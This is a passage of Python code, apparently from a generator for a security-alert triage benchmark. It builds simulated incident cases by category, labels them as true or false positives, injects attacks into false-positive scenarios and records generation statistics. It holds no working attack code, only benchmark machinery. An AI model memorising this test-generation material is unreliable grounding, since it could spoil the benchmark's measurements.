    out.alert_trigger = [t for t in out.alert_trigger if t not in doomed]
    return out


# --- benchmark ----------------------------------------------------------------------


@dataclass
class CategoryCounts:
    tp: int = 0
    fp: int = 0


# Default composition: per-category true/false positive counts.
DEFAULT_COUNTS: dict[Category, CategoryCounts] = {
    Category.BRUTE_FORCE: CategoryCounts(135, 59),
    Category.UNAUTHORIZED_ACCESS: CategoryCounts(186, 112),
    Category.MISCONFIGURATION: CategoryCounts(100, 75),
    Category.MALICIOUS_FILE_EXECUTION: CategoryCounts(54, 73),
}

CASE_PREFIX = {
    Category.BRUTE_FORCE: "bf",
    Category.UNAUTHORIZED_ACCESS: "ua",
    Category.MISCONFIGURATION: "mis",
    Category.MALICIOUS_FILE_EXECUTION: "mfe",
}


@dataclass
class DistributionConfig:
    categories: dict[Category, CategoryCounts] = field(default_factory=lambda: copy.deepcopy(DEFAULT_COUNTS))
    compression: str = "1"
    exfil_reads: int = DEFAULT_EXFIL_READS
    min_tp_findings: int = DEFAULT_MIN_TP_FINDINGS
    inject_every: int = 5  # every k-th true positive is a converted false-positive archetype (0: never)
    max_attempts: int = 25

    @classmethod
    def from_dict(cls, data: dict) -> "DistributionConfig":
        if not isinstance(data, dict):
            raise SpecError("config must be an object")
        cats = data.get("categories", {})
        if not isinstance(cats, dict):
            raise SpecError("categories must be an object", "categories")
        parsed: dict[Category, CategoryCounts] = {}
        for key, value in cats.items():
            try:
                cat = Category(key)
            except ValueError:
                raise SpecError(f"unknown category {key!r}", f"categories.{key}") from None
            try:
                counts = structure(CategoryCounts, value)
            except (TypeError, KeyError, ValueError) as exc:
                raise SpecError(str(exc), f"categories.{key}") from None
            if counts.tp < 0 or counts.fp < 0:
                raise SpecError("counts must be non-negative", f"categories.{key}")
            parsed[cat] = counts
        rest = {k: v for k, v in data.items() if k != "categories"}
        try:
            cfg = structure(cls, {**rest, "categories": {}})
        except (TypeError, KeyError, ValueError) as exc:
            raise SpecError(str(exc)) from None
        cfg.categories = {c: parsed.get(c, CategoryCounts()) for c in CATEGORY_ORDER}
        return cfg

    @classmethod
    def load(cls, path: str | Path) -> "DistributionConfig":
        return cls.from_dict(json.loads(Path(path).read_text(encoding="utf-8")))

    def to_dict(self) -> dict:
        return {
            "categories": {c.value: {"tp": k.tp, "fp": k.fp} for c, k in self.categories.items()},
            "compression": self.compression,
            "exfil_reads": self.exfil_reads,
            "min_tp_findings": self.min_tp_findings,
            "inject_every": self.inject_every,
            "max_attempts": self.max_attempts,
        }

    @property
    def total(self) -> int:
        return sum(k.tp + k.fp for k in self.categories.values())


@dataclass
class Benchmark:
    cases: list[CaseBundle]
    report: dict

    def write(self, out_dir: str | Path) -> Path:
        root = Path(out_dir)
        (root / "cases").mkdir(parents=True, exist_ok=True)
        for b in self.cases:
            b.write(root / "cases" / b.case_id)
        (root / "manifest.json").write_text(json.dumps(self.report, indent=2) + "\n", encoding="utf-8")
        return root


class BenchmarkError(IrsimError):
    pass


def _tp_candidate(cat: Category, seeds: Sequence[ScenarioSpec], slot: int, attempt: int, rng: random.Random,
                  cfg: DistributionConfig, rng_seed: int) -> ScenarioSpec:
    if cfg.inject_every and slot % cfg.inject_every == cfg.inject_every - 1:
        kinds = CATEGORY_ARCHETYPES[cat]
        kind = kinds[(slot // cfg.inject_every) % len(kinds)]
        base = generate_false_positive(FpArchetype(kind, {"category": cat.value}), derive_seed(rng_seed, cat.value, slot, attempt, "fp"))
        return inject_attack(base, rng)
    seed = seeds[(slot + attempt) % len(seeds)]
    transforms = [Transform.RENAME_RESOURCES]
    for t in (Transform.SHIFT_REGION, Transform.SHIFT_TIMELINE, Transform.SWAP_TECHNIQUE):
        if rng.random() < 0.5 and (t is not Transform.SWAP_TECHNIQUE or applicable_swaps(seed)):
            transforms.append(t)
    plan = VariationPlan(seed, transforms, 1, derive_seed(rng_seed, cat.value, slot, attempt))
    return generate_variations(plan)[0]


def build_benchmark(config: DistributionConfig, seeds: Sequence[ScenarioSpec], rng_seed: int,
                    progress: Callable[[int, int], None] | None = None) -> Benchmark:
    """Generate exactly the configured number of validated cases per category and verdict."""
    by_cat: dict[Category, list[ScenarioSpec]] = {c: [] for c in CATEGORY_ORDER}
    for s in seeds:
        by_cat[Category(s.category)].append(s)
    for cat, counts in config.categories.items():
        if counts.tp > 0 and not by_cat[cat]:
            raise BenchmarkError(f"insufficient seeds for category {cat.value}: {counts.tp} true positives requested, no seed scenario")

    cases: list[CaseBundle] = []
    rejections: Counter[str] = Counter()
    attempts = 0
    done = 0
    for cat in CATEGORY_ORDER:
        counts = config.categories.get(cat, CategoryCounts())
        order_rng = random.Random(derive_seed(rng_seed, cat.value, "order"))
        slots = [Verdict.TP] * counts.tp + [Verdict.FP] * counts.fp
        order_rng.shuffle(slots)
        tp_seen = fp_seen = 0
        for number, verdict in enumerate(slots, start=1):
            case_id = f"{CASE_PREFIX[cat]}-{number:04d}"
            slot = tp_seen if verdict is Verdict.TP else fp_seen
            for attempt in range(config.max_attempts):
                attempts += 1
                rng = random.Random(derive_seed(rng_seed, case_id, attempt))
                if verdict is Verdict.TP:
                    spec = _tp_candidate(cat, by_cat[cat], slot, attempt, rng, config, rng_seed)
                else:
                    kinds = CATEGORY_ARCHETYPES[cat]
                    kind = kinds[slot % len(kinds)]
                    spec = generate_false_positive(FpArchetype(kind, {"category": cat.value}), derive_seed(rng_seed, case_id, attempt))
                try:
                    check_structure(spec)
                    bundle = execute_scenario(spec, derive_seed(rng_seed, case_id, attempt, "exec"), case_id=case_id,
                                              compression=config.compression, exfil_reads=config.exfil_reads)
                except SpecError as exc:
                    rejections[(RejectReason.CYCLIC if "cycle" in str(exc) else RejectReason.IMPOSSIBLE_ORDERING).value] += 1
                    continue
                except (ScenarioExecutionError, GroundTruthError):
                    rejections[RejectReason.EXECUTION_FAILED.value] += 1
                    continue
                verdict_check = assess_bundle(spec, bundle, config.min_tp_findings)
                if not verdict_check:
                    rejections[verdict_check.reasons[0].value] += 1
                    continue
                cases.append(bundle)
                break
            else:
                raise BenchmarkError(f"{case_id}: no acceptable candidate after {config.max_attempts} attempts")
            if verdict is Verdict.TP:
                tp_seen += 1
            else:
                fp_seen += 1
            done += 1
            if progress is not None:
                progress(done, config.total)

    rejected = sum(rejections.values())
    report = {
        "rng_seed": rng_seed,
        "config": config.to_dict(),
        "seeds": sorted(s.scenario_id for s in seeds),
        "cases": [{"case_id": b.case_id, "category": b.manifest.category.value, "scenario_id": b.manifest.scenario_id,
                   "lineage": list(b.manifest.lineage)} for b in cases],
        "generation": {
            "accepted": len(cases),
            "attempts": attempts,
            "rejected": rejected,
            "rejection_rate": (rejected / attempts) if attempts else None,
            "rejections_by_reason": dict(sorted(rejections.items())),
        },
    }
    return Benchmark(cases, report)
